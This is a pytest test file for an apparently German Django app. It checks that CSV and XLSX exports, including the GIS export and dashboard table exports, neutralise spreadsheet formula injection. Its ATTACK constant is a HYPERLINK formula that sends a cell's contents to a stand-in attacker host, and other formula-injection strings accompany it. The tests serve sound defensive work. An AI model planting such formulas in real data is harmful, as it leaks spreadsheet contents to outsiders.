"""Text that a spreadsheet would run as a formula stays text in every CSV and XLSX export."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.roles import Role
from edge.tables import csv_bytes, xlsx_bytes
from tests.factories import IdeaFactory, UserFactory

ATTACK = '=HYPERLINK("https://boese.example/?d="&A1;"Details")'


def _csv_rows(content: bytes, delimiter: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter))


@pytest.mark.parametrize("text", [ATTACK, "+1+2", "-1+2", "@SUM(A1)", "\t=1+1", "\r=1+1"])
def test_csv_cells_get_an_apostrophe_and_numbers_stay_numbers(text):
    rows = _csv_rows(csv_bytes(["titel", "zahl"], [[text, -3]]))
    assert rows[1] == ["'" + text, "-3"]


def test_xlsx_keeps_the_text_and_stores_it_as_a_string_not_a_formula():
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["titel"], [[ATTACK]], title="t"))).active
    cell = sheet["A2"]
    assert cell.value == ATTACK
    assert cell.data_type == "s"


def test_gis_csv_export_neutralises_formulas(client, db, tmp_path):
    IdeaFactory(title=ATTACK)
    response = client.get(reverse("api:export", kwargs={"dataset": "ideen", "fmt": "csv"}))
    assert response.status_code == 200
    rows = _csv_rows(b"".join(response.streaming_content))
    titel = rows[0].index("titel")
    assert rows[1][titel] == "'" + ATTACK
    assert rows[1][0].startswith("POINT(")


def test_dashboard_exports_neutralise_formulas_of_pending_ideas(client, db):
    IdeaFactory(title=ATTACK, visibility="pending")
    client.force_login(UserFactory(roles=[Role.PLANNER]))
    url = reverse("dashboard:table-export", args=["top-ideen", "csv"])
    rows = _csv_rows(client.get(url).content)
    assert "'" + ATTACK in rows[1]
    sheet = load_workbook(io.BytesIO(client.get(reverse("dashboard:table-export", args=["top-ideen", "xlsx"])).content))
    cells = [cell for row in sheet.active.iter_rows() for cell in row if cell.value == ATTACK]
    assert cells
    assert all(cell.data_type == "s" for cell in cells)
